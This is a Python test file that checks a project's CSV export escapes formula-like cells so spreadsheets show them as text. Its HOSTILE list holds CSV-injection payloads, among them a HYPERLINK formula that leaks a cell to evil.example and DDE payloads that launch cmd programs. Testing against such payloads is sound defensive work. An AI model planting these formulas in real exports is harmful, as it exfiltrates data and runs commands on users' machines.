"""CSV for people never carries a live spreadsheet formula: `keepwell report … --csv`, run
as a user runs it (a `keepwell` process), writes a customer named like a formula as text,
through the one CSV writer every export uses (keepwell/csvout.py)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from keepwell import csvout, db
from keepwell.customers.service import create_customer
from keepwell.scoring.models import Score

DAY = dt.date(2026, 11, 25)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for your discount")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '\uff1dHYPERLINK("http://evil.example")',
]


def keepwell(*args: str) -> subprocess.CompletedProcess[str]:
    """The installed command, as a user runs it."""
    return subprocess.run(
        [sys.executable, "-m", "keepwell", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "NO_COLOR": "1"},
        check=False,
    )


def test_report_csv_writes_formula_like_names_as_text(sqlite_engine: Engine) -> None:
    with db.transaction(sqlite_engine) as session:
        for n, name in enumerate(HOSTILE):
            customer = create_customer(session, {"name": name, "external_id": f"C{n}"})
            session.add(
                Score(
                    scored_on=DAY, customer_id=customer.id, model="bgnbd", p_alive=0.5,
                    clv_minor=10_000 - n, risk_minor=0, health=50, stage="repeat",
                    explanation="=1+1 looks like a formula too",
                )
            )  # fmt: skip
    url = sqlite_engine.url.render_as_string(hide_password=False)
    done = keepwell("report", "clv", "--date", DAY.isoformat(), "--csv", "-d", url)
    assert done.returncode == 0, done.stderr
    table = list(csv.reader(io.StringIO(done.stdout)))
    assert table[0] == ["customer_id", "customer", "clv_minor", "p_alive", "stage", "why"]
    names = [row[1] for row in table[1:]]
    assert names == ["'" + name for name in HOSTILE]  # shown as text, and nothing lost
    assert {row[5] for row in table[1:]} == {"'=1+1 looks like a formula too"}
    # numbers are not text: the value and the probability stay plain numbers
    assert [row[2] for row in table[1:]] == [str(10_000 - n) for n in range(len(HOSTILE))]
    assert {row[3] for row in table[1:]} == {"0.5"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, ""),
        (-12, -12),
        (-1.5, -1.5),
        (Decimal("-3.20"), Decimal("-3.20")),
        ("-3.20", "'-3.20"),  # text that a spreadsheet would compute
        ("Ana = Bob", "Ana = Bob"),
        ("\r=1", "'\r=1"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\x0b@x", "'\x0b@x"),
        (dt.date(2026, 1, 2), "2026-01-02"),
    ],
)
def test_cells(value: object, written: object) -> None:
    assert csvout.cell(value) == written


def test_the_rejects_file_keeps_the_rows_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "rejects.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csvout.CsvWriter(handle, verbatim=True).row(["=1+1", None, 3])
    assert path.read_bytes() == b"=1+1,,3\r\n"
